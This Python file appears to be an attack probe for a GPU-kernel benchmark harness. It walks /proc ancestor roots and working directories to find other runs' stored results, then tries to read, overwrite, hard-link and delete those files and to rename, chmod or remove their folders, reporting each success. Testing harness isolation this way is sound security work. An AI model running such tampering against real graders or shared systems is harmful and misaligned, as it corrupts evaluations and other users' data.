# Results that could not be uploaded wait beside the builds: read another's, put
# a better one there for the next try, remove what is there.
from attack import *


def go():
    base = os.path.dirname(os.environ["CUDA_ATTACK_OUT"])
    roots = [""] + [f"/proc/{pid}/root" for pid in ancestors() + [1]]
    places = [root + base + "/builds/.kbrun-results" for root in roots] + [f"/proc/{pid}/cwd/../builds/.kbrun-results" for pid in ancestors()]
    for place in places:
        try:
            names = os.listdir(place)
        except OSError:
            names = []
        for name in names + ["0" * 64 + ".kept"]:
            path = os.path.join(place, name)
            show(read(path))
            for attempt in (lambda: open(path, "w").write("{}"), lambda: os.link(path, "linked"), lambda: os.remove(path)):
                try:
                    attempt()
                    if names:
                        tell("reached", path)
                except OSError:
                    pass
        for attempt in (lambda: os.rename(place, place + "-gone"), lambda: os.chmod(place, 0o777), lambda: os.rmdir(place)):
            try:
                attempt()
                tell("reached", place)
            except OSError:
                pass


if warming:
    go()
custom_kernel = kernel = once(go)
